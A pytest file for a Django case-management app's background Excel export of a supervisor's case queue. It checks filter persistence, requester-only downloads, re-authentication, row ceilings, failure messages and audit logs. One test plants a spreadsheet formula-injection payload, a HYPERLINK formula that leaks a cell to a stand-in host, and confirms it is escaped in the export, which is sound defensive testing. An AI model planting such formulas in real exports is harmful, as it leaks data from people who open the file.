"""The queue's workbook beyond what is written while the user waits: asked for from the export link, prepared by a
task with the page's filters (not its cases), downloaded by its requester only, logged; refused above the ceiling;
a failure shown, never silent. The file is kept in the exports storage, on the local disk and in the object store
alike (tests/evidence_backends.py)."""

import io
from contextlib import closing
from datetime import UTC, datetime
from unittest import mock

import openpyxl
import pytest
from django.urls import reverse

from accounts.models import Role
from cases import services
from cases.choices import CaseStatus, IncidentKind
from cases.evidence_store import exports_storage
from cases.models import AccessLog, Case, ExportStatus, OutboxMessage, QueueExport, QueueExportRefusal
from cases.queue_filters import QueueFilters
from cases.reports import files, queue_export, tasks
from cases.reports.queue_jobs import filters_as_json, filters_from_json, queue_file
from tests.conftest import reauthenticated
from tests.evidence_backends import Backend
from tests.factories import case_in, member

pytestmark = pytest.mark.django_db
S = CaseStatus
EXPORT = "/queue/export/"
WORKBOOKS = reverse("cases:queue-workbooks")
QUERY = "kind=threat&sort=created&dir=asc"


DISK_ONLY = pytest.mark.parametrize("evidence_backend", ["disk"], indirect=True)


@pytest.fixture
def big(settings, evidence_backend) -> Backend:
    """Every workbook of more than one row is "big": it is prepared by the task (eager in tests, run on commit). The
    exports storage is the local disk's or the object store's (``evidence_backend``)."""
    settings.RIGHTSGUARD_INLINE_EXPORT_MAX = 1
    return evidence_backend


def stored(name: str) -> bytes:
    with closing(exports_storage().reader(name)) as handle:
        return handle.read()


def supervisor_client(client, user):
    client.force_login(user)
    return reauthenticated(client)


def workbook_rows(content: bytes) -> list[tuple]:
    return list(openpyxl.load_workbook(io.BytesIO(content)).active.iter_rows(values_only=True))


def logs() -> list[tuple[str, str, str | None]]:
    return list(AccessLog.objects.order_by("id").values_list("action", "object_ref", "source_ip"))


def prepared(client, world, django_capture_on_commit_callbacks, query: str = QUERY) -> QueueExport:
    """The supervisor asks for the workbook of ``query``; the task runs on commit."""
    supervisor_client(client, world.supervisor)
    with django_capture_on_commit_callbacks(execute=True):
        assert client.post(WORKBOOKS, {"query": query}).status_code == 302
    return QueueExport.objects.get()


def test_a_big_workbook_is_prepared_with_the_pages_filters_and_downloaded_by_its_requester(
    client, world, big, settings, django_capture_on_commit_callbacks
):
    first = case_in(world, S.INTAKE, kind=IncidentKind.THREAT)
    second = case_in(world, S.INTAKE, kind=IncidentKind.THREAT)
    case_in(world, S.INTAKE, kind=IncidentKind.DOXXING)  # filtered out
    elsewhere = case_in(world, S.INTAKE, kind=IncidentKind.THREAT)  # not in the supervisor's queue
    Case.objects.filter(pk=elsewhere.pk).update(unit=world.sibling_station, unit_path=world.sibling_station.path)
    services.add_suspect(case=first, by=world.supervisor, name="张某", id_number="330106199001011234")
    hacker = member(world.city, Role.SUPERVISOR, full_name='=HYPERLINK("http://x.example/?"&A2,"点我")')
    services.assign_case(case=second, by=world.supervisor, expected_version=None, assignee=hacker)
    supervisor_client(client, world.supervisor)

    # The export link offers to prepare it; nothing is started or logged yet.
    offer = client.get(EXPORT, {"kind": "threat", "sort": "created", "dir": "asc", "format": "xlsx"})
    assert offer.status_code == 200
    page = offer.content.decode()
    assert "These 2 cases are too many to write into a workbook while you wait." in page
    assert f'<input type="hidden" name="query" value="{QUERY.replace("&", "&amp;")}">' in page
    assert (QueueExport.objects.count(), logs()) == (0, [])

    with django_capture_on_commit_callbacks(execute=False) as callbacks:
        response = client.post(WORKBOOKS, {"query": QUERY}, REMOTE_ADDR="10.9.9.9")
    assert (response.status_code, response["Location"]) == (302, WORKBOOKS)
    job = QueueExport.objects.get()
    assert (job.requested_by, job.filters, job.order, job.query, job.rows, job.language, job.status) == (
        world.supervisor,
        {"kinds": ["threat"]},
        "created_at",
        QUERY,
        2,
        "en",
        ExportStatus.PENDING,
    )
    listing = client.get(WORKBOOKS).content.decode()
    assert (
        "Your workbook of 2 cases is being prepared. It is listed below, on this page of prepared workbooks (linked "
        "from the queue, beside the export): download it here when it is ready."
    ) in listing
    assert 'hx-trigger="every 2s"' in listing
    assert f'id="workbook-progress-{job.pk}"' in listing

    # The filters were kept, not the cases: a case matching them since the request is in the file.
    third = case_in(world, S.INTAKE, kind=IncidentKind.THREAT)
    for callback in callbacks:  # the commit: the task runs now
        callback()
    job.refresh_from_db()
    assert (job.status, job.progress, job.rows, job.file_name, job.refusal) == (
        ExportStatus.DONE,
        100,
        3,
        f"queue-{job.pk}.xlsx",
        "",
    )
    assert big.exported() == {queue_file(job): stored(queue_file(job))}  # in the storage any web node reads
    assert OutboxMessage.objects.get(key=f"queue-export:{job.pk}").done_at is not None

    ready = client.get(WORKBOOKS, HTTP_HX_REQUEST="true").content.decode()
    assert "hx-trigger" not in ready
    download_url = reverse("cases:queue-workbook-download", args=[job.pk])
    assert f'href="{download_url}"' in ready

    response = client.get(download_url, REMOTE_ADDR="10.9.9.9")
    assert response.status_code == 200
    assert "no-store" in response["Cache-Control"]
    assert response["Content-Disposition"].startswith('attachment; filename="rightsguard-queue-')
    rows = workbook_rows(b"".join(response.streaming_content))
    assert [r[0] for r in rows] == ["Reference", first.reference, second.reference, third.reference]
    assert rows[2][9] == '\'=HYPERLINK("http://x.example/?"&A2,"点我")'
    assert not {"张某", "330106199001011234", first.location, first.summary} & {c for r in rows for c in r}
    # The same rows as the workbook written while the user waits, for the same filters and sort.
    settings.RIGHTSGUARD_INLINE_EXPORT_MAX = 100
    inline = client.get(EXPORT, {"kind": "threat", "sort": "created", "dir": "asc", "format": "xlsx"})
    assert workbook_rows(b"".join(inline.streaming_content)) == rows

    assert logs() == [
        ("export", f"queue format=xlsx rows=2 via=task:{job.pk} filter={QUERY}", "10.9.9.9"),
        ("download", f"queue format=xlsx rows=3 via=download:{job.pk} filter={QUERY}", "10.9.9.9"),
        ("export", f"queue format=xlsx rows=3 filter={QUERY}", "127.0.0.1"),
    ]


@DISK_ONLY
def test_another_supervisor_cannot_see_or_download_the_workbook(client, world, big, django_capture_on_commit_callbacks):
    case_in(world, S.INTAKE, kind=IncidentKind.THREAT)
    case_in(world, S.INTAKE, kind=IncidentKind.THREAT)
    job = prepared(client, world, django_capture_on_commit_callbacks)
    assert job.status == ExportStatus.DONE
    content = stored(queue_file(job))
    before = logs()
    download_url = reverse("cases:queue-workbook-download", args=[job.pk])

    # A colleague of the same unit (the same queue) and the county's supervisor: 404, as if it did not exist.
    for other in (member(world.city, Role.SUPERVISOR), world.county_supervisor):
        supervisor_client(client, other)
        assert client.get(download_url).status_code == 404
        assert f"workbook-{job.pk}" not in client.get(WORKBOOKS).content.decode()
    # The officer and the administrator have no queue to export.
    for other in (world.officer, world.admin):
        supervisor_client(client, other)
        assert client.get(download_url).status_code == 403
        assert client.get(WORKBOOKS).status_code == 403
    # Nothing downloaded; the refusals of the two without a queue are in the log, as every 403 is.
    refused = [("denied", download_url, "127.0.0.1"), ("denied", WORKBOOKS, "127.0.0.1")]
    assert logs() == before + refused * 2
    assert stored(queue_file(job)) == content


@DISK_ONLY
def test_the_download_asks_for_the_password_first_and_logs_nothing_until_then(
    client, world, big, django_capture_on_commit_callbacks
):
    case_in(world, S.INTAKE, kind=IncidentKind.THREAT)
    case_in(world, S.INTAKE, kind=IncidentKind.THREAT)
    job = prepared(client, world, django_capture_on_commit_callbacks)
    before = logs()
    client.logout()
    client.force_login(world.supervisor)  # a new session: the password is not confirmed
    download_url = reverse("cases:queue-workbook-download", args=[job.pk])
    response = client.get(download_url)
    assert response.status_code == 302
    assert response["Location"].startswith("/accounts/reauth/")
    assert logs() == before


@DISK_ONLY
def test_more_cases_than_a_workbook_may_hold_are_refused_and_nothing_is_started(client, world, big, settings):
    settings.RIGHTSGUARD_QUEUE_EXPORT_MAX_ROWS = 2
    for _ in range(3):
        case_in(world, S.INTAKE, kind=IncidentKind.THREAT)
    supervisor_client(client, world.supervisor)
    said = "3 cases are more than a workbook may hold (at most 2); export them as CSV, or narrow the filter."
    offer = client.get(EXPORT, {"kind": "threat", "format": "xlsx"})
    assert (offer.status_code, offer.content.decode()) == (400, said)
    posted = client.post(WORKBOOKS, {"query": "kind=threat"})
    assert (posted.status_code, posted.content.decode()) == (400, said)
    jobs = OutboxMessage.objects.filter(task="cases.reports.export_queue")
    assert (QueueExport.objects.count(), jobs.count(), logs()) == (0, 0, [])
    # The CSV of the same cases is still offered.
    assert client.get(EXPORT, {"kind": "threat", "format": "csv"}).status_code == 200


@DISK_ONLY
def test_a_queue_grown_past_the_ceiling_meanwhile_fails_the_job_saying_why(
    client, world, big, settings, django_capture_on_commit_callbacks
):
    settings.RIGHTSGUARD_QUEUE_EXPORT_MAX_ROWS = 2
    case_in(world, S.INTAKE, kind=IncidentKind.THREAT)
    case_in(world, S.INTAKE, kind=IncidentKind.THREAT)
    supervisor_client(client, world.supervisor)
    with django_capture_on_commit_callbacks(execute=False) as callbacks:
        client.post(WORKBOOKS, {"query": "kind=threat"})
    case_in(world, S.INTAKE, kind=IncidentKind.THREAT)
    for callback in callbacks:
        callback()
    job = QueueExport.objects.get()
    assert (job.status, job.refusal, job.rows, job.file_name) == (
        ExportStatus.FAILED,
        QueueExportRefusal.TOO_MANY,
        3,
        "",
    )
    assert big.exported() == {}
    assert OutboxMessage.objects.get(key=f"queue-export:{job.pk}").done_at is not None  # not retried for ever
    page = client.get(WORKBOOKS).content.decode()
    assert (
        '<span class="badge text-bg-danger">Failed</span> <span class="text-danger">3 cases are more than a workbook '
        "may hold (at most 2); export them as CSV, or narrow the filter.</span>"
    ) in page
    assert client.get(reverse("cases:queue-workbook-download", args=[job.pk])).status_code == 404


def test_an_unexpected_error_leaves_the_workbook_failed_and_says_so(
    client, world, big, monkeypatch, django_capture_on_commit_callbacks
):
    case_in(world, S.INTAKE, kind=IncidentKind.THREAT)
    case_in(world, S.INTAKE, kind=IncidentKind.THREAT)

    def broken(rows, out):
        out.write(b"half a file")
        raise OSError("disk full")

    monkeypatch.setattr(queue_export, "write_xlsx", broken)
    supervisor_client(client, world.supervisor)
    with django_capture_on_commit_callbacks(execute=False):
        client.post(WORKBOOKS, {"query": "kind=threat"})
    job = QueueExport.objects.get()
    with pytest.raises(OSError, match="disk full"):  # raised to the worker, which logs it; the relay runs it again
        tasks.export_queue(job.pk, "en", f"queue-export:{job.pk}")
    job.refresh_from_db()
    assert (job.status, job.refusal, job.error, job.file_name) == (ExportStatus.FAILED, "", "disk full", "")
    assert big.exported() == {}  # no half file left behind, nor its received part
    assert OutboxMessage.objects.get(key=f"queue-export:{job.pk}").done_at is None
    page = client.get(WORKBOOKS).content.decode()
    assert (
        "The workbook could not be prepared. Ask for it again from the queue, or tell your system administrator."
    ) in page
    assert "disk full" not in page


def test_the_task_is_safe_to_run_twice(client, world, big, django_capture_on_commit_callbacks):
    case_in(world, S.INTAKE, kind=IncidentKind.THREAT)
    case_in(world, S.INTAKE, kind=IncidentKind.THREAT)
    job = prepared(client, world, django_capture_on_commit_callbacks)
    name = queue_file(job)
    first = stored(name)
    with mock.patch.object(files, "write", wraps=files.write) as write:
        assert tasks.export_queue(job.pk, "en") == ExportStatus.DONE
        assert write.call_count == 0  # finished work is left alone
        exports_storage().remove(name)  # the file went missing: a rerun writes it again
        assert tasks.export_queue(job.pk, "en") == ExportStatus.DONE
        assert write.call_count == 1
    assert workbook_rows(stored(name)) == workbook_rows(first)
    assert list(big.exported()) == [name]


def test_the_kept_filters_come_back_as_they_were():
    filters = QueueFilters(
        statuses=("intake", "referred"),
        unit_path="000000/330000/",
        min_injury_rank=2,
        occurred_after=datetime(2025, 3, 1, 16, 0, tzinfo=UTC),
        text="张三",
        awaiting_ack=True,
        awaiting_unit_id=7,
        place="-",
        weekday="1",
        hour="7",
    )
    stored = filters_as_json(filters)
    assert stored == {
        "statuses": ["intake", "referred"],
        "unit_path": "000000/330000/",
        "min_injury_rank": 2,
        "occurred_after": "2025-03-01T16:00:00+00:00",
        "text": "张三",
        "awaiting_ack": True,
        "awaiting_unit_id": 7,
        "place": "-",
        "weekday": "1",
        "hour": "7",
    }
    assert filters_from_json(stored) == filters
    assert filters_from_json({}) == QueueFilters()
    with pytest.raises(KeyError):
        filters_from_json({"no_such_filter": 1})
